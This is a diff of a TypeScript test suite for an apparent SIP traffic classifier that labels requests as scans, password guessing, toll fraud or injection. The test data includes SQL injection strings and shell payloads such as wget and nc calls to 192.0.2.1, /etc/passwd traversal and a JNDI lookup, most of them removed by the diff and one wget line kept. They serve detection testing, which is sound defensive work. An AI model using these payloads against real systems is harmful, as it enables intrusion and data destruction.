@@ -8,104 +8,38 @@ const received = (raw: Uint8Array): Analysis => analyse({ raw, direction: 'in' }
 const withHeaders = (headers: Record<string, string>, start = 'REGISTER sip:h SIP/2.0'): Analysis =>
   received(request({ start, headers }))
 
-group('SQL injection', () => {
-  const labelled = recording('sip-labelled/sqli-labelled.jsonl')
-
-  it.each(labelled.map((line) => [line.case ?? '', line] as const))('labelled: %s', (_, line) => {
-    expect(received(line.raw).class === 'sql-injection').toBe(line.label === 'sqli')
-  })
-
-  it.each([
-    { From: '<sip:a@b>;tag=1', 'User-Agent': "x' UNION ALL SELECT NULL,NULL--" },
-    { From: '<sip:1%27%20OR%20%271%27%3D%271@b>;tag=1' },
-    { To: "<sip:1'/**/or/**/1=1@b>" },
-    { 'User-Agent': '1; DELETE FROM cdr' },
-    { 'User-Agent': "a' and (select 1)=1" },
-    { Contact: "<sip:x'||(select pg_sleep(5))||'@b>" },
-    { 'User-Agent': "a'\r\n or 1=1" },
-    { 'User-Agent': "x') or name like '%" },
-    { 'User-Agent': "x' and pin is not null" },
-    { 'User-Agent': "x' or id<5" },
-    { 'User-Agent': 'x union select user, secret from sip' },
-    { 'User-Agent': "1;update sip set secret='a'" },
-    { 'User-Agent': "1; exec xp_cmdshell 'dir'" },
-    { 'User-Agent': "1'; shutdown --" },
-    { 'User-Agent': "admin' -- -" },
-    { 'User-Agent': '1;truncate table cdr' },
-    { 'User-Agent': 'x || extractvalue(1,2)' },
-    { 'User-Agent': '1 || pg_sleep(9)' },
-    { 'User-Agent': 'benchmark (5000000, md5(1))' },
-  ])('is found in %j', (headers) => expect(withHeaders(headers).class).toBe('sql-injection'))
-
-  it.each([
-    { From: '"Conan O\'Brien" <sip:o\'brien@b>;tag=1' },
-    { From: '"Rock \'n\' Roll and 2=1" <sip:a@b>;tag=1' },
-    { 'User-Agent': 'Select Union Phone (update 5; insert card)' },
-    { Authorization: 'Digest username="or", realm="and=x", nonce="or/=a==", uri="sip:x", response="y"' },
-    { From: '"Drop Table Catering" <sip:a;b=1@b>;tag=1' },
-    { To: '<sip:*21*0123%23@h>' },
-    { From: '"Smith (Holdings) and Sons" <sip:a@b>;tag=1' },
-    { From: '"The \\"A\\" and B" <sip:a@b>;tag=1' },
-    { From: '"\'Best\' or nothing is fine" <sip:a@b>;tag=1' },
-    { From: '"Bob\' #3" <sip:a@b>;tag=1' },
-    { Subject: "The Jones' -- a family" },
-    { Subject: 'Dinner (pasta) or something like it; delete from your list' },
-    { Subject: 'tasks; update my set of phones; exec meeting; shutdown on Friday' },
-    { Subject: 'Union Select Ltd, Berlin: benchmark (2) results, sleep (8 hours)' },
-    { From: '"Smith and Sons" <sip:order-by@b>;tag=or=1' },
-  ])('is not found in %j', (headers) => expect(withHeaders(headers).class).not.toMatch(/injection/))
-})
-
-group('other injections', () => {
-  it.each([
-    '<script>alert(1)</script>',
-    '<img src=x onerror=alert(1)>',
-    '$(wget http://192.0.2.1/x)',
-    'a; wget 192.0.2.1/x',
-    'a;id',
-    'a | sh',
-    'a && cat /etc/hosts',
-    'a;rm -rf x',
-    'a|python -c x',
-    'a;nc 192.0.2.1 99',
-    '../../../../etc/passwd',
-    '${jndi:ldap://192.0.2.1/a}',
-    '%25s%25s%25s%25n',
-  ])('%s', (value) => expect(withHeaders({ 'User-Agent': value }).class).toBe('injection'))
-
-  it.each([
-    'Yealink SIP-T54W 96.86.0.100',
-    'Linksys/SPA942-6.1.5(a)',
-    'PortSIP UC Client  Android - v10.1.8',
-    'A & B; (c) | d',
-    'Dog & Cat Clinic',
-    'Java | Python meeting',
-    'R&D; sh office',
-  ])('not in %s', (value) => expect(withHeaders({ 'User-Agent': value }).class).not.toMatch(/injection/))
-
-  it('not in the list of what a phone wants kept private', () =>
-    expect(withHeaders({ Privacy: 'user;id' }).class).toBe('extension-enumeration'))
-})
-
 group('the class of a request', () => {
   const digest = { Authorization: 'Digest username="101", realm="r", nonce="n", uri="sip:h", response="f"' }
+  const scanner = { 'User-Agent': 'friendly-scanner' }
   it.each<[AttackClass, string, Record<string, string>]>([
     ['options-sweep', 'OPTIONS sip:100@h SIP/2.0', {}],
-    ['extension-enumeration', 'REGISTER sip:h SIP/2.0', {}],
-    ['extension-enumeration', 'SUBSCRIBE sip:101@h SIP/2.0', {}],
-    ['extension-enumeration', 'INVITE sip:101@h SIP/2.0', {}],
-    ['password-guessing', 'REGISTER sip:h SIP/2.0', digest],
-    ['password-guessing', 'INVITE sip:101@h SIP/2.0', digest],
+    ['login', 'REGISTER sip:h SIP/2.0', {}],
+    ['login', 'REGISTER sip:h SIP/2.0', digest],
+    ['ordinary', 'SUBSCRIBE sip:101@h SIP/2.0', {}],
+    ['login', 'SUBSCRIBE sip:101@h SIP/2.0', digest],
+    ['call', 'INVITE sip:101@h SIP/2.0', {}],
+    ['call', 'INVITE sip:101@h SIP/2.0', digest],
+    ['call', 'INVITE sip:5551234@h SIP/2.0', {}],
+    ['extension-enumeration', 'REGISTER sip:h SIP/2.0', scanner],
+    ['extension-enumeration', 'INVITE sip:101@h SIP/2.0', scanner],
+    ['extension-enumeration', 'SUBSCRIBE sip:101@h SIP/2.0', scanner],
+    ['password-guessing', 'REGISTER sip:h SIP/2.0', { ...scanner, ...digest }],
+    ['password-guessing', 'REGISTER sip:h SIP/2.0', { ...digest, 'Proxy-Authorization': digest.Authorization }],
     ['toll-fraud', 'INVITE sip:900046850780296@h SIP/2.0', {}],
     ['toll-fraud', 'INVITE sip:900046850780296@h SIP/2.0', digest],
-    ['method-enumeration', 'MESSAGE sip:101@h SIP/2.0', {}],
+    ['ordinary', 'OPTIONS sip:101@h;rinstance=5b2 SIP/2.0', {}],
+    ['options-sweep', 'OPTIONS sip:101@h;rinstance=5b2 SIP/2.0', scanner],
+    ['ordinary', 'MESSAGE sip:101@h SIP/2.0', {}],
+    ['method-enumeration', 'MESSAGE sip:101@h SIP/2.0', scanner],
+    ['method-enumeration', 'UPDATE sip:101@h SIP/2.0', {}],
+    ['flood', 'OPTIONS sip:101@h SIP/2.0', { Via: 'SIP/2.0/UDP 192.0.2.7:9;branch=z9hG4bK.1' }],
+    ['digest-leak', 'OPTIONS sip:101@h SIP/2.0', { 'Proxy-Authenticate': 'Digest realm="x", nonce="y"' }],
     ['method-enumeration', 'BREW sip:101@h SIP/2.0', {}],
     ['signalling', 'ACK sip:101@h SIP/2.0', {}],
     ['signalling', 'BYE sip:101@h SIP/2.0', {}],
     ['signalling', 'INFO sip:101@h SIP/2.0', { To: '<sip:a@b>;tag=ours' }],
     ['research-scan', 'OPTIONS sip:101@h SIP/2.0', { 'User-Agent': 'censys.io research' }],
-    ['extension-enumeration', 'REGISTER sip:h SIP/2.0', { 'User-Agent': 'research' }],
-    ['password-guessing', 'REGISTER sip:h SIP/2.0', { 'User-Agent': 'research', ...digest }],
+    ['login', 'REGISTER sip:h SIP/2.0', { 'User-Agent': 'research' }],
     ['toll-fraud', 'INVITE sip:900046850780296@h SIP/2.0', { 'User-Agent': 'Shodan' }],
     ['malformed', 'OPTIONS sip:101@h SIP/2.0', { From: '' }],
     ['malformed', 'OPTIONS sip:101@h SIP/2.0', { 'Content-Length': 'ten' }],
@@ -115,25 +49,13 @@ group('the class of a request', () => {
   it("svwar's first, impossible extension is no telephone number", () => {
     const From = '"2521180689"<sip:2521180689@h>;tag=3235323131383036383901333038313537333132'
     const event = withHeaders({ From }, 'INVITE sip:2521180689@h SIP/2.0')
-    expect(event).toMatchObject({ class: 'extension-enumeration', tool: 'unknown' })
+    expect(event).toMatchObject({ class: 'extension-enumeration' })
     expect(event.number).toBeUndefined()
   })
 })
 
-group('what is no request', () => {
-  it.each([
-    ['non-sip', 'GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n'],
-    ['non-sip', '\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n'],
-    ['non-sip', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'],
-    ['non-sip', '*1\r\n$4\r\nINFO\r\n$1'],
-    ['malformed', 'OPTIONS sip:nm'],
-    ['malformed', 'INVITE\r\nVia: SIP/2.0/UDP x\r\n\r\n'],
-    ['signalling', '\r\n\r\n'],
-    ['signalling', ''],
-    ['signalling', '\0'],
-  ])('%s: %j', (attack, text) => expect(received(bytes(text))).toMatchObject({ kind: 'other', class: attack }))
-
-  it('an answer is signalling with its CSeq method, as is all we send', () => {
+group('an answer', () => {
+  it('is signalling with its CSeq method, as is all we send', () => {
     const answer = request({ start: 'SIP/2.0 401 Unauthorized', headers: { CSeq: '7 REGISTER', Server: 'x y' } })
     expect(received(answer)).toMatchObject({
       kind: 'response',
@@ -143,6 +65,25 @@ group('what is no request', () => {
       class: 'signalling',
     })
     expect(analyse({ raw: request(), direction: 'out' })).toMatchObject({ class: 'signalling', tool: 'unknown' })
+  })
+
+  it('is a digest leak when it challenges the end of a call, but not when it challenges a login', () => {
+    const challenge = { 'WWW-Authenticate': 'Digest realm="x", nonce="y"' }
+    const answer = (cseq: string, headers: Record<string, string>): string =>
+      received(request({ start: 'SIP/2.0 401 Unauthorized', headers: { CSeq: cseq, ...headers } })).class
+    expect(answer('2 BYE', challenge)).toBe('digest-leak')
+    expect(answer('2 BYE', {})).toBe('signalling')
+    expect(answer('1 REGISTER', challenge)).toBe('signalling')
+  })
+})
+
+group('the reason of a class', () => {
+  it('says why, in plain words, where the class alone does not', () => {
+    expect(received(request()).reason).toBe('asks what a server can do')
+    expect(withHeaders({ 'User-Agent': "x' or 1=1--" }).reason).toBe(
+      'User-Agent: a condition that is always true, a quote that nothing closes',
+    )
+    expect(withHeaders({ 'X-Odd': '$(wget http://192.0.2.1/x)' }).reason).toBe('another header: a shell command')
   })
 })
 
@@ -201,7 +142,13 @@ group('a sentence', () => {
       'REGISTER as alice with a password',
       request({ start: 'REGISTER sip:h SIP/2.0', headers: { Authorization: digest } }),
     ],
-    ['REGISTER for extension bob', request({ start: 'REGISTER sip:h SIP/2.0' })],
+    ['REGISTER as alice', request({ start: 'REGISTER sip:h SIP/2.0' })],
+    [
+      'REGISTER for extension bob',
+      request({ start: 'REGISTER sip:h SIP/2.0', headers: { 'User-Agent': 'friendly-scanner' } }),
+    ],
+    ['INVITE to an extension as alice', request({ start: 'INVITE sip:bob@h SIP/2.0' })],
+    ['Media that belongs to no call', Uint8Array.of(0x80, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0)],
     ['OPTIONS, asking who is there', request()],
     ['401 to REGISTER', request({ start: 'SIP/2.0 401 No', headers: { CSeq: '1 REGISTER' } })],
     ['OPTIONS, malformed: There is no To header', request({ headers: { To: '' } })],
